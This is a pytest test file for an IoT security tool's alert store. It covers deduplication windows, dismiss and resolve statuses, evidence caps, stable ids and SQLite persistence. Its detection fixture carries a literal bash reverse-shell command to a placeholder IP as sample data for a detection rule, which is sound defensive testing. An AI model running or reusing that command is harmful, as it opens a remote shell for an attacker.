"""The alert lifecycle: dedup within a window, statuses, evidence, stable ids, persistence."""

from __future__ import annotations

import sqlite3
import uuid
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from iotsec.analytics import Detection, DeviceContext, StateError
from iotsec.analytics.alerts import (
    ALERT_NAMESPACE,
    EVIDENCE_CAP,
    Alert,
    AlertError,
    AlertNotFound,
    alert_id,
)
from iotsec.analytics.alertstore import AlertStore

T0 = datetime(2025, 3, 1, 12, 0, tzinfo=UTC)


class Clock:
    def __init__(self) -> None:
        self.now = T0

    def __call__(self) -> datetime:
        return self.now


def detection(
    minutes: float = 0,
    *,
    evidence: tuple[str, ...] | None = None,
    key: str = "k/dev-1",
    **kw: object,
) -> Detection:
    time = T0 + timedelta(minutes=minutes)
    fields: dict[str, object] = {
        "rule_id": "IoT_ReverseShell",
        "display_name": "Reverse shell",
        "severity": "High",
        "device": DeviceContext("dev-1", group="cameras", hub="/hubs/h1"),
        "time": time,
        "description": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "evidence": evidence if evidence is not None else (f"ev-{minutes}:0",),
        "dedup_key": key,
        "properties": {"Command Line": "bash -i"},
        "remediation": ("Isolate the device.",),
        "tactics": ("Execution",),
        "techniques": ("T1059.004",),
    }
    fields.update(kw)
    return Detection(**fields)  # type: ignore[arg-type]


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def store(tmp_path: Path, clock: Clock) -> AlertStore:
    made = AlertStore(tmp_path / "alerts.db", clock=clock)
    yield made
    made.close()


def test_a_new_detection_opens_an_active_alert_with_a_stable_id(store: AlertStore) -> None:
    [alert] = store.process([detection()])
    assert alert.status == "Active"
    assert alert.count == 1
    assert alert.evidence == ("ev-0:0",)
    assert alert.start_time == alert.end_time == T0
    assert alert.device_id == "dev-1" and alert.group == "cameras" and alert.hub == "/hubs/h1"
    assert alert.properties == {"Command Line": "bash -i"}
    expected = uuid.uuid5(ALERT_NAMESPACE, f"k/dev-1\n{T0.isoformat(timespec='microseconds')}")
    assert alert.alert_id == str(expected) == alert_id("k/dev-1", T0)
    assert store.get(alert.alert_id) == alert


def test_repeats_within_the_window_fold_into_one_alert(store: AlertStore) -> None:
    first, second, third = store.process([detection(0), detection(10), detection(59)])
    assert first.alert_id == second.alert_id == third.alert_id
    assert [first.count, second.count, third.count] == [1, 2, 3]
    assert third.start_time == T0
    assert third.end_time == T0 + timedelta(minutes=59)
    assert third.evidence == ("ev-0:0", "ev-10:0", "ev-59:0")
    assert third.description == first.description


def test_after_the_window_a_repeat_opens_a_new_alert(store: AlertStore) -> None:
    old, new = store.process([detection(0), detection(60)])  # dedup_seconds 3600
    assert new.alert_id != old.alert_id
    assert new.count == 1 and new.start_time == T0 + timedelta(minutes=60)
    assert store.get(old.alert_id).count == 1


def test_the_window_is_the_detections_own(store: AlertStore) -> None:
    short = [detection(m, dedup_seconds=120.0) for m in (0, 1, 2)]
    alerts = store.process(short)
    assert alerts[0].alert_id == alerts[1].alert_id != alerts[2].alert_id


def test_evidence_is_capped_but_counted(store: AlertStore) -> None:
    many = [detection(m / 100) for m in range(EVIDENCE_CAP + 50)]
    last = store.process(many)[-1]
    assert last.count == EVIDENCE_CAP + 50
    assert len(last.evidence) == EVIDENCE_CAP
    assert last.evidence_total == EVIDENCE_CAP + 50
    assert last.evidence[0] == "ev-0.0:0"


def test_a_replay_changes_nothing(store: AlertStore) -> None:
    original = store.process([detection(0), detection(5)])[-1]
    again = store.process([detection(0), detection(5)])
    assert again == [original, original]
    assert store.get(original.alert_id).count == 2


def test_a_replay_past_the_evidence_cap_is_recognised(store: AlertStore) -> None:
    many = [detection(m / 100) for m in range(EVIDENCE_CAP + 20)]
    last = store.process(many)[-1]
    assert store.process(many[-10:])[-1] == last


def test_reprocessing_after_a_crash_gives_the_same_ids(tmp_path: Path, clock: Clock) -> None:
    batch = [detection(0), detection(5), detection(61, key="other")]
    with AlertStore(tmp_path / "a.db", clock=clock) as first:
        ids = [a.alert_id for a in first.process(batch)]
    # The state was lost (a new file): the same detections give the same alerts.
    with AlertStore(tmp_path / "b.db", clock=clock) as second:
        assert [a.alert_id for a in second.process(batch)] == ids


def test_state_survives_a_restart(tmp_path: Path, clock: Clock) -> None:
    path = tmp_path / "alerts.db"
    with AlertStore(path, clock=clock) as store:
        [alert] = store.process([detection(0)])
        store.dismiss(alert.alert_id, reason="lab device", by="ops")
    with AlertStore(path, clock=clock) as store:
        reopened = store.get(alert.alert_id)
        assert reopened.status == "Dismissed"
        assert store.process([detection(1)])[0].count == 2
    with sqlite3.connect(path) as db:
        assert db.execute("PRAGMA journal_mode").fetchone()[0] == "wal"


def test_dismissed_alerts_stay_quiet_until_their_window_passes(
    store: AlertStore, clock: Clock
) -> None:
    [alert] = store.process([detection(0)])
    clock.now = T0 + timedelta(minutes=1)
    dismissed = store.dismiss(alert.alert_id, reason="known admin script", by="ana@example.com")
    assert dismissed.status == "Dismissed"
    assert dismissed.status_reason == "known admin script"
    assert dismissed.status_by == "ana@example.com"
    assert dismissed.status_time == clock.now
    [repeat] = store.process([detection(30)])
    assert repeat.alert_id == alert.alert_id
    assert repeat.status == "Dismissed" and repeat.count == 2
    [later] = store.process([detection(61)])
    assert later.alert_id != alert.alert_id and later.status == "Active"


def test_a_resolved_alert_reopens_as_a_new_alert(store: AlertStore) -> None:
    [alert] = store.process([detection(0)])
    resolved = store.resolve(alert.alert_id, reason="reimaged", by="ops")
    assert resolved.status == "Resolved"
    [recurrence] = store.process([detection(10)])
    assert recurrence.alert_id != alert.alert_id
    assert recurrence.status == "Active" and recurrence.count == 1
    assert store.get(alert.alert_id).status == "Resolved"
    assert store.get(alert.alert_id).count == 1


def test_a_recurrence_with_the_same_first_time_does_not_overwrite_the_resolved_alert(
    store: AlertStore,
) -> None:
    window = T0  # threshold detections carry their window's start as first time
    [alert] = store.process([detection(1, first_time=window)])
    store.resolve(alert.alert_id, reason="fixed", by="ops")
    [again] = store.process([detection(3, first_time=window)])
    assert again.alert_id != alert.alert_id and again.status == "Active"
    assert store.get(alert.alert_id).status == "Resolved"


def test_status_changes_need_a_reason_and_a_known_alert(store: AlertStore) -> None:
    [alert] = store.process([detection(0)])
    with pytest.raises(AlertError, match="reason is required"):
        store.dismiss(alert.alert_id, reason=" ", by="ops")
    with pytest.raises(AlertError, match="who sets"):
        store.resolve(alert.alert_id, reason="done", by="")
    with pytest.raises(AlertNotFound):
        store.dismiss("no-such-alert", reason="x", by="y")
    store.resolve(alert.alert_id, reason="done", by="ops")
    with pytest.raises(AlertError, match="stays resolved"):
        store.dismiss(alert.alert_id, reason="x", by="y")
    assert store.resolve(alert.alert_id, reason="again", by="ops").status_reason == "done"


def test_listing_by_status_and_device(store: AlertStore) -> None:
    a, b = store.process([detection(0), detection(0, key="k/dev-2")])
    store.dismiss(b.alert_id, reason="noise", by="ops")
    assert [x.alert_id for x in store.list(status="Active")] == [a.alert_id]
    assert [x.alert_id for x in store.list(status="Dismissed")] == [b.alert_id]
    assert {x.alert_id for x in store.list(device_id="dev-1")} == {a.alert_id, b.alert_id}
    with pytest.raises(ValueError, match="status"):
        store.list(status="Open")  # type: ignore[arg-type]


def test_the_json_form_round_trips(store: AlertStore) -> None:
    [alert] = store.process([detection(0)])
    assert Alert.from_json(alert.to_json()) == alert
    body = alert.to_json()
    assert body["alertType"] == "IoT_ReverseShell" and body["evidence"] == ["ev-0:0"]
    assert body["startTime"] == "2025-03-01T12:00:00.000000+00:00"


def test_naive_times_are_refused(store: AlertStore) -> None:
    naive = replace(detection(0), time=datetime(2025, 3, 1, 12, 0))
    with pytest.raises(ValueError, match="timezone-aware"):
        store.process([naive])


def test_storage_failures_are_state_errors(tmp_path: Path) -> None:
    with pytest.raises(StateError) as caught:
        AlertStore(tmp_path)  # a directory
    assert caught.value.path == str(tmp_path)
    store = AlertStore(tmp_path / "x.db")
    store.close()
    with pytest.raises(StateError, match="closed"):
        store.process([detection(0)])
    newer = tmp_path / "newer.db"
    with sqlite3.connect(newer) as db:
        db.execute("PRAGMA user_version = 99")
    with pytest.raises(StateError, match="newer"):
        AlertStore(newer)
